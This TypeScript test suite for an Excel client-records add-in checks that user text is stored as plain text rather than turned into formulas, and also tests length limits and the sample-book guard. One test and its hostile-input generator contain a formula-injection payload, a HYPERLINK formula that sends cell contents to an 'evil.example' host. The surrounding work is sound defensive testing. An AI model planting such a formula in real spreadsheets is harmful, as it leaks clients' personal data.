/**
 * Client text always arrives as text: every task-pane command that writes text (save client: a changed row and new
 * rows; log contact: the Contacts row and the calendar's summary cell; load sample; set-up) stores each string as
 * the same text whatever the number format of the cell it lands in — never a formula, number, date or boolean.
 * Also Load sample book's guard: all eight tables must be empty.
 */
import fc from "fast-check";
import { TABLES, type RecordTableKey } from "../../src/book/schema";
import { isExcelError, textCell } from "../../src/book/text";
import type { Book, Client, Contact, FamilyMember } from "../../src/domain/types";
import { paneCommands } from "../../src/taskpane/paneCommands";
import { fitNote, MAX_NOTE_TEXT } from "../../src/sheets/contactCalendar";
import { needsTextFormat, plainText } from "../../src/excel/tableWrite";
import { sampleBook } from "../../src/sample";
import { colName } from "../../src/sheets/a1";
import { installFakeOffice, type FakeHost } from "../fake-excel";
import { AS_OF, dataSnapshot, installWithBook } from "./helpers";

const commands = paneCommands();
let host: FakeHost | undefined;
afterEach(() => {
  host?.coAuthor(undefined);
  host?.uninstall();
  host = undefined;
});

const full = sampleBook(AS_OF, "zh-CN");
/** A small book (three clients and their rows) keeps each command fast enough for a property test. */
const ids = new Set(full.clients.slice(0, 3).map((c) => c.clientId));
const small: Book = {
  ...full,
  clients: full.clients.filter((c) => ids.has(c.clientId)),
  family: full.family.filter((r) => ids.has(r.clientId)),
  holdings: full.holdings.filter((r) => ids.has(r.clientId)),
  policies: full.policies.filter((r) => ids.has(r.clientId)),
  contacts: full.contacts.filter((r) => ids.has(r.clientId)),
  reviews: full.reviews.filter((r) => ids.has(r.clientId)),
};

const col = (key: RecordTableKey, field: string) => colName(TABLES[key].columns.findIndex((c) => c.field === field) + 1);

describe("plainText / needsTextFormat (the rule that decides which cells get \"@\")", () => {
  test.each([
    ["李明", false],
    ["Zhang San", false],
    ["=1+1", true],
    ["+86 138 0013 8000", true],
    ["-abc", true],
    ["@home", true],
    ["'quoted", true],
    ["\tTab", true],
    ["\rCR", true],
    ["＝1", true],
    ["00123", true],
    ["3/5", true],
    ["Jan-5", true],
    ["12:30", true],
    ["TRUE", true],
    ["false", true],
    ["#N/A", true],
    ["1e5", true],
    ["C1", true],
    ["", false],
  ])("%j needs \"@\": %s", (text, needs) => {
    expect(needsTextFormat(text)).toBe(needs);
    if (text !== "") expect(plainText(text)).toBe(!needs);
  });
});

describe("safeText probe: the format of the cell written, not of the first data row, decides", () => {
  test("Notes formatted \"@\" in row 2 only (pasted rows): a client in row 7 saved with a HYPERLINK note stores text, not a formula", async () => {
    // Before the fix: the first data row's "@" made every row's Notes go in unprotected, and row 7 is General.
    const book = full;
    host = installWithBook(book);
    const notes = col("clients", "notes");
    host.type("客户", `${notes}2`, [[null]]);
    await Excel.run(async (ctx) => {
      ctx.workbook.worksheets.getItem("客户").getRange(`${notes}2`).numberFormat = [["@"]];
      await ctx.sync();
    });
    const client = (await commands.readBook()).book.clients[5];
    const evil = '=HYPERLINK("http://evil.example/?"&B7&E7,"open")';
    const r = await commands.saveClient({ client: { before: client, after: { ...client, notes: evil } }, family: [], holdings: [], policies: [] });
    expect(r).toMatchObject({ ok: true });
    const cell = host.sheet("客户")!.cell(`${notes}7`);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(evil);
    expect(cell.numberFormat).toBe("@");
  });
});

// ---- the property test -------------------------------------------------------------------------------------------

/** Hostile text: each leading character Excel reads as a formula or conversion, control characters, look-alikes. */
const hostile = fc.oneof(
  fc.tuple(fc.constantFrom("=", "+", "-", "@", "'", "\t", "\r", "＝", "＋", "－", "＠", "#", "$", "(", ".", "%", "a", "李", ""), fc.string({ maxLength: 12 })).map(([a, b]) => a + b),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&B7&E7,"open")',
    "+86 138 0013 8000",
    "-5",
    "@SUM(A1)",
    "00123",
    "0912345678",
    "110101199003074518",
    "1,234",
    "12%",
    "1e5",
    "(5)",
    "$5",
    "3/5",
    "2024-01-01",
    "2024/1/1",
    "12:30",
    "1 1/2",
    "Jan-5",
    "TRUE",
    "false",
    "#N/A",
    "'",
    "''x",
    "a\tb",
    "line1\r\nline2",
  ),
);
/** Required fields must not be blank (the form refuses them); the text is kept as given. */
const required = hostile.filter((s) => s.trim() !== "");
const FORMATS = ["General", "@", "0.00", "yyyy-mm-dd"];

interface Expect {
  sheet: string;
  address: string;
  text: string;
}

function check(h: FakeHost, expected: readonly Expect[]): void {
  for (const e of expected) {
    const cell = h.sheet(e.sheet)!.cell(e.address);
    // No formula ClientBook did not intend, and the very text back.
    expect({ at: `${e.sheet}!${e.address}`, formula: cell.formula, value: cell.value }).toEqual({ at: `${e.sheet}!${e.address}`, formula: undefined, value: e.text });
  }
}

/** As many random formats as the widest of the tables the property writes to (tables gain optional columns). */
const FORMAT_COUNT = Math.max(...(["clients", "family", "contacts"] as const).map((k) => TABLES[k].columns.length));

describe("property: random client text through every command that writes text, into cells of random number formats", () => {
  test("save client (a changed row, a new client, a new family member) and log contact: every string is stored as the same text", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.record({
          name: required,
          address: hostile,
          hobbies: hostile,
          notes: hostile,
          newName: required,
          familyName: required,
          school: hostile,
          summary: required,
          nextAction: required,
          formats: fc.array(fc.constantFrom(...FORMATS), { minLength: FORMAT_COUNT, maxLength: FORMAT_COUNT }),
          lastRowFormats: fc.array(fc.constantFrom(...FORMATS), { minLength: FORMAT_COUNT, maxLength: FORMAT_COUNT }),
        }),
        async (t) => {
          host?.uninstall();
          host = installWithBook(small);
          const h = host;
          const width = TABLES.clients.columns.length;
          // Random formats on the client's row (mixed per cell) and on the last row of each table (new rows inherit it).
          await Excel.run(async (ctx) => {
            const sheet = (key: RecordTableKey) => ctx.workbook.worksheets.getItem(TABLES[key].sheet["zh-CN"]);
            sheet("clients").getRangeByIndexes(1, 0, 1, width).numberFormat = [t.formats.slice(0, width)];
            sheet("clients").getRangeByIndexes(small.clients.length, 0, 1, width).numberFormat = [t.lastRowFormats.slice(0, width)];
            const fw = TABLES.family.columns.length;
            sheet("family").getRangeByIndexes(small.family.length, 0, 1, fw).numberFormat = [t.lastRowFormats.slice(0, fw)];
            const cw = TABLES.contacts.columns.length;
            sheet("contacts").getRangeByIndexes(small.contacts.length, 0, 1, cw).numberFormat = [t.lastRowFormats.slice(0, cw)];
            await ctx.sync();
          });
          const client = small.clients[0];
          const newClient: Client = { clientId: "C9001", name: t.newName, notes: t.notes, address: t.address };
          const member: FamilyMember = { clientId: client.clientId, name: t.familyName, relation: "Child", schoolOrWork: t.school };
          const r = await commands.saveClient({
            client: { before: client, after: { ...client, name: t.name, address: t.address, hobbies: t.hobbies, notes: t.notes } },
            family: [{ after: member }],
            holdings: [],
            policies: [],
          });
          expect(r).toMatchObject({ ok: true });
          const r2 = await commands.saveClient({ client: { after: newClient }, family: [], holdings: [], policies: [] });
          expect(r2).toMatchObject({ ok: true });
          // Another client: the first one's row may now hold text the codec reads as an error value ("#N/A").
          const contact: Contact = { clientId: small.clients[1].clientId, date: AS_OF, channel: "T", summary: t.summary, nextAction: t.nextAction };
          await commands.logContact(contact);

          const row = 2;
          const newRow = small.clients.length + 2;
          const familyRow = small.family.length + 2;
          const contactRow = small.contacts.length + 2;
          const maybe = (sheet: string, address: string, text: string): Expect[] => (text === "" ? [] : [{ sheet, address, text }]);
          check(h, [
            ...maybe("客户", `${col("clients", "name")}${row}`, t.name),
            ...maybe("客户", `${col("clients", "address")}${row}`, t.address),
            ...maybe("客户", `${col("clients", "hobbies")}${row}`, t.hobbies),
            ...maybe("客户", `${col("clients", "notes")}${row}`, t.notes),
            ...maybe("客户", `${col("clients", "name")}${newRow}`, t.newName),
            ...maybe("客户", `${col("clients", "notes")}${newRow}`, t.notes),
            ...maybe("客户", `${col("clients", "address")}${newRow}`, t.address),
            ...maybe("家庭成员", `${col("family", "name")}${familyRow}`, t.familyName),
            ...maybe("家庭成员", `${col("family", "schoolOrWork")}${familyRow}`, t.school),
            // logContact trims the summary and next action (the form's own rule), then stores them as they are.
            ...maybe("联络记录", `${col("contacts", "summary")}${contactRow}`, t.summary.trim()),
            ...maybe("联络记录", `${col("contacts", "nextAction")}${contactRow}`, t.nextAction.trim()),
          ]);
          // And nowhere else in the data sheets did a formula appear.
          for (const s of dataSnapshot(h)) {
            const formulas = Object.entries(s.cells).filter(([, c]) => c.formula !== undefined);
            expect({ sheet: s.name, formulas }).toEqual({ sheet: s.name, formulas: [] });
          }
        },
      ),
      { numRuns: 25 },
    );
  }, 120_000);
});

describe("text Excel cannot hold (32,767 characters a cell)", () => {
  test("the form refuses a 40,000-character note before writing anything, naming the table, client and field", async () => {
    host = installWithBook(small);
    const before = dataSnapshot(host);
    const client = small.clients[0];
    const err = await commands.saveClient({ client: { before: client, after: { ...client, notes: "记".repeat(40_000) } }, family: [], holdings: [], policies: [] }).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: "InvalidArgument" });
    const text = (err as { localized: Record<string, string> }).localized;
    expect(text["zh-CN"]).toContain(`客户：${client.clientId} 的「备注」有 40,000 个字符`);
    expect(text["en-US"]).toContain("40,000 characters");
    expect(text["zh-TW"]).toContain("32,767");
    expect(dataSnapshot(host)).toEqual(before);
  });

  test("Log contact refuses a 32,768-character summary; 32,767 is written whole", async () => {
    host = installWithBook(small);
    const c: Contact = { clientId: small.clients[1].clientId, date: AS_OF, channel: "E", summary: "x".repeat(32_768) };
    await expect(commands.logContact(c)).rejects.toMatchObject({ code: "InvalidArgument" });
    await commands.logContact({ ...c, summary: "=" + "y".repeat(32_766) });
    const cell = host.sheet("联络记录")!.cell(`${col("contacts", "summary")}${small.contacts.length + 2}`);
    expect(cell.formula).toBeUndefined();
    expect(String(cell.value)).toHaveLength(32_767);
  });

  test("a calendar note longer than a note holds is cut with a visible marker in the calendar's language", () => {
    expect(fitNote("a".repeat(10), "zh-CN")).toBe("a".repeat(10));
    const cut = fitNote("b".repeat(40_000), "zh-TW");
    expect(cut).toHaveLength(MAX_NOTE_TEXT);
    expect(MAX_NOTE_TEXT).toBeLessThanOrEqual(32_767);
    expect(cut.endsWith("…（全文見「聯絡記錄」表）")).toBe(true);
  });
});

describe("property: product names through Record review", () => {
  test("a holding's hostile product name, saved through the form, arrives in the Reviews rows as the same text", async () => {
    await fc.assert(
      // The codec trims spaces around what it reads and drops a leading apostrophe (Excel's text prefix), so the review row holds
      // the product name as the book reads it; names whose text starts with an apostrophe, and error literals
      // ("#N/A" as text reads as Excel's error value), are left to that codec.
      fc.asyncProperty(required.filter((s) => !s.trim().startsWith("'") && !isExcelError(s)), fc.constantFrom(...FORMATS), async (name, format) => {
        host?.uninstall();
        host = installWithBook(small);
        const h = host;
        const client = small.clients[0];
        const holding = small.holdings.find((x) => x.clientId === client.clientId)!;
        await Excel.run(async (ctx) => {
          const ws = ctx.workbook.worksheets.getItem(TABLES.reviews.sheet["zh-CN"]);
          ws.getRangeByIndexes(small.reviews.length, 0, 1, TABLES.reviews.columns.length).numberFormat = [TABLES.reviews.columns.map(() => format)];
          await ctx.sync();
        });
        expect(await commands.saveClient({ client: { before: client, after: client }, family: [], holdings: [{ before: holding, after: { ...holding, productName: name } }], policies: [] })).toMatchObject({ ok: true });
        const r = await commands.recordReview(client.clientId, AS_OF, {});
        const product = col("reviews", "productName");
        const rows = Array.from({ length: r.rows }, (_, i) => h.sheet("检视记录")!.cell(`${product}${small.reviews.length + 2 + i}`));
        expect(rows.map((c) => c.value)).toContain(textCell(name));
        for (const c of rows) expect(c.formula).toBeUndefined();
      }),
      { numRuns: 15 },
    );
  }, 120_000);
});

// ---- Load sample book's guard -------------------------------------------------------------------------------------

describe("Load sample book refuses unless all eight tables are empty", () => {
  test.each([
    ["家庭成员", "A2:B2", [["C0001", "王小明"]], "家庭成员（1 行）", "Family (1 row)"],
    ["联络记录", "A2", [["C0001"]], "联络记录（1 行）", "Contacts (1 row)"],
  ])("a row in %s (Clients empty) → refused, naming that table; nothing written", async (sheet, address, values, zh, en) => {
    // Before the fix only Clients was checked, and the sample was written beside these rows.
    host = installFakeOffice();
    await commands.setupBook("zh-CN");
    host.type(sheet, address, values);
    const before = dataSnapshot(host);
    const err = await commands.loadSample("zh-CN", AS_OF).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: "ItemAlreadyExists" });
    const messages = (err as { localized: Record<string, string> }).localized;
    expect(messages["zh-CN"]).toContain(zh);
    expect(messages["en-US"]).toContain(en);
    expect(messages["zh-TW"]).toContain("範例簿");
    expect(dataSnapshot(host)).toEqual(before);
  });

  test("a setting the manager changed (currency HKD) → refused, naming Settings; the setting is kept", async () => {
    host = installFakeOffice();
    await commands.setupBook("zh-TW");
    const settings = host.table("Settings")!;
    const values = host.getValues(settings.sheet, settings.dataAddress.split("!")[1]);
    const at = values.findIndex((r) => r[0] === "幣別" || r[0] === "币种" || String(r[0]).toLowerCase().includes("currency"));
    expect(at).toBeGreaterThanOrEqual(0);
    host.type(settings.sheet, `B${at + 2}`, [["HKD"]]);
    const err = await commands.loadSample("zh-TW", AS_OF).catch((e: unknown) => e);
    expect(err).toMatchObject({ code: "ItemAlreadyExists" });
    expect((err as { localized: Record<string, string> }).localized["zh-TW"]).toContain("設定（1 項設定已修改）");
    expect(host.getValues(settings.sheet, `B${at + 2}`)).toEqual([["HKD"]]);
  });

  test("an empty, freshly set-up book loads (Settings as set-up wrote them counts as empty)", async () => {
    host = installFakeOffice();
    await commands.setupBook("zh-CN");
    await expect(commands.loadSample("zh-CN", AS_OF)).resolves.toMatchObject({ syncs: 2 });
  });
});
